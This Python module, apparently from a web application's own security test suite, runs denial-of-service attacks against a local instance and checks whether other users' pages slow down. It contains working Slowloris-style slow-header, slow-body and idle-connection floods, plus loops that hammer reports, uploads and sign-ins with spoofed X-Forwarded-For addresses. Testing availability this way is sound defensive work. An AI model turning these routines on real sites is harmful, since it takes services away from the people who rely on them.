"""Attacks on availability: one person or one machine keeps the others from their pages."""

from __future__ import annotations

import socket
import statistics
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from functools import partial
from threading import Event, Thread

from attacks.attack import Ground, Succeeded, attack
from attacks.browser import Browser
from attacks.exports import make
from attacks.files import upload
from attacks.instance import HOST

GROUP = "denial"
#: Others' pages may take so many times their usual time, and never more than so many seconds once.
MOST_TIMES, MOST_SECONDS = 3.0, 10.0
#: Below so many seconds nobody notices, however many times the usual time it is.
UNNOTICED_SECONDS = 0.4
SLOW_CONNECTIONS = 500
PAGES = ("/my-work/", "/items/", "/overview/", "/evidence/")


def _times(browser: Browser, turns: int) -> list[float]:
    """Ask for the pages in turn; return the seconds of each."""
    taken = []
    for turn in range(turns):
        begun = time.monotonic()
        answer = browser.get(PAGES[turn % len(PAGES)])
        taken.append(time.monotonic() - begun)
        if answer.status != 200:
            raise Succeeded(f"{answer.address} answered {answer.status} meanwhile")
    return taken


def _demand_others_go_on(ground: Ground, during: Callable[[], None] | None = None) -> str:
    """Compare the time of another person's pages now with their usual time, measured before."""
    usual = statistics.median(ground.__dict__.setdefault("_usual", _times(ground.victim, 24)))
    if during:
        during()
    taken = _times(ground.victim, 24)
    now, worst = statistics.median(taken), max(taken)
    said = f"others' pages: {usual * 1000:.0f} ms usually, {now * 1000:.0f} ms meanwhile, {worst * 1000:.0f} ms at worst"
    if worst > MOST_SECONDS or now > max(MOST_TIMES * usual, UNNOTICED_SECONDS):
        raise Succeeded(said)
    return said


@contextmanager
def _trickling(port: int, count: int, begin: bytes, drop: bytes) -> Iterator[list[socket.socket]]:
    """Hold connections open that begin a request and go on by a few bytes every second."""
    held: list[socket.socket] = []
    over = Event()

    def trickle() -> None:
        while not over.wait(1):
            for each in held:
                try:
                    each.send(drop)
                except OSError:
                    continue

    try:
        for _number in range(count):
            each = socket.create_connection(("127.0.0.1", port), timeout=5)
            each.sendall(begin)
            each.setblocking(False)
            held.append(each)
        Thread(target=trickle, daemon=True).start()
        yield held
    finally:
        over.set()
        for each in held:
            each.close()


def _slow(ground: Ground, begin: str, drop: bytes) -> str:
    usual = _demand_others_go_on(ground)
    head = begin.replace("HOST", f"{HOST}:{ground.site.tls_port}").encode()
    with _trickling(ground.site.port, SLOW_CONNECTIONS, head, drop):
        time.sleep(2)
        said = _demand_others_go_on(ground)
    return f"{SLOW_CONNECTIONS} connections straight to the web process; {said or usual}"


@attack(GROUP, "500 connections send the head of a request by drops")
def slow_heads(ground: Ground) -> str:
    return _slow(ground, "GET /sign-in/ HTTP/1.1\r\nHost: HOST\r\n", b"X-A: b\r\n")


@attack(GROUP, "500 connections send the body of a form by drops")
def slow_bodies(ground: Ground) -> str:
    head = "POST /sign-in/ HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nlogin="
    return _slow(ground, head, b"a")


@attack(GROUP, "500 connections ask and read nothing")
def slow_readers(ground: Ground) -> str:
    return _slow(
        ground,
        "GET /static/fonts/inter.woff2 HTTP/1.1\r\nHost: HOST\r\nX-Forwarded-Proto: https\r\n\r\n" * 3,
        b"",
    )


@attack(GROUP, "500 connections are opened and say nothing")
def idle_connections(ground: Ground) -> str:
    return _slow(ground, "", b"")


@contextmanager
def _in_a_loop(*acts: Callable[[], object]) -> Iterator[list[int]]:
    """Do each act again and again, each in a thread of its own; yields the count of acts that were done."""
    over, done = Event(), [0]

    def loop(act: Callable[[], object]) -> None:
        while not over.is_set():
            try:
                act()
            except (OSError, RuntimeError, LookupError, AssertionError):
                time.sleep(0.1)
            done[0] += 1

    threads = [Thread(target=loop, args=(act,), daemon=True) for act in acts]
    for thread in threads:
        thread.start()
    try:
        yield done
    finally:
        over.set()
        for thread in threads:
            thread.join(70)


def _looped(ground: Ground, acts: Sequence[Callable[[], object]], what: str) -> str:
    _demand_others_go_on(ground)
    with _in_a_loop(*acts) as done:
        time.sleep(3)
        said = _demand_others_go_on(ground)
    return f"{done[0]} {what}; {said}"


def _own_browsers(ground: Ground, mailbox: str, count: int) -> list[Browser]:
    first = ground.as_(mailbox)
    copies = []
    for _number in range(count):
        copy = Browser(ground.site)
        copy.cookies.update(first.cookies)
        copies.append(copy)
    return copies


@attack(GROUP, "One officer makes papers in a loop, four at once")
def papers_in_a_loop(ground: Ground) -> str:
    kinds = ("pdf", "xlsx", "docx", "pack")
    acts = [
        lambda browser=browser, kind=kind: make(browser, paper=kind, depth="full")
        for browser, kind in zip(_own_browsers(ground, "pegawai.jtk.2", 4), kinds, strict=True)
    ]
    return _looped(ground, acts, "papers asked for")


@attack(GROUP, "One officer searches and opens the heaviest pages in a loop, eight at once")
def pages_in_a_loop(ground: Ground) -> str:
    paths = (
        "/search/?q=a",
        "/overview/",
        "/items/?as_at=2023-08-01",
        "/figures/",
        "/overview/trend/",
        "/search/?q=siasatan",
        "/weaknesses/",
        "/figures/windows/",
    )
    acts = [
        lambda browser=browser, path=path: browser.get(path)
        for browser, path in zip(_own_browsers(ground, "pegawai.jtk.2", 8), paths, strict=True)
    ]
    return _looped(ground, acts, "pages")


@attack(GROUP, "One officer uploads in a loop, six at once")
def uploads_in_a_loop(ground: Ground) -> str:
    content = b"Teks biasa untuk ujian.\n" * 40_000
    acts = [
        lambda browser=browser, number=number: upload(
            browser, f"fail-{number}-{time.monotonic_ns()}.txt", content + str(time.monotonic_ns()).encode()
        )
        for number, browser in enumerate(_own_browsers(ground, "pegawai.jtk.2", 6))
    ]
    return _looped(ground, acts, "uploads of 1 MB")


@attack(GROUP, "Ten thousand sign-ins are tried, sixteen at once")
def many_sign_ins(ground: Ground) -> str:
    def act(browser: Browser, number: int) -> None:
        token = browser.get("/sign-in/").form("/sign-in/").fields["csrfmiddlewaretoken"]
        for turn in range(50):
            # Straight to the web process, as if through the proxy from an address each.
            headers = {"X-Forwarded-For": f"10.{number}.{turn}.9"}
            fields = {"login": f"orang{turn}@x.example", "password": "salah", "csrfmiddlewaretoken": token}
            browser.post("/sign-in/", fields, headers=headers)

    acts = [partial(act, Browser(ground.site, direct=True), number) for number in range(16)]
    return _looped(ground, acts, "times 50 tries")


@attack(GROUP, "Parameters by the thousand, and a form of 100,000 fields")
def many_parameters(ground: Ground) -> str:
    query = "&".join(f"a{number}=b" for number in range(900))
    browser = ground.stranger()
    slowest = 0.0
    for _turn in range(3):
        begun = time.monotonic()
        browser.get(f"/sign-in/?{query}")
        ground.attacker.post("/account/contact/", {f"f{number}": "x" for number in range(100_000)})
        slowest = max(slowest, time.monotonic() - begun)
    if slowest > 8:
        raise Succeeded(f"{slowest:.1f} s")
    return f"answered in {slowest:.1f} s"
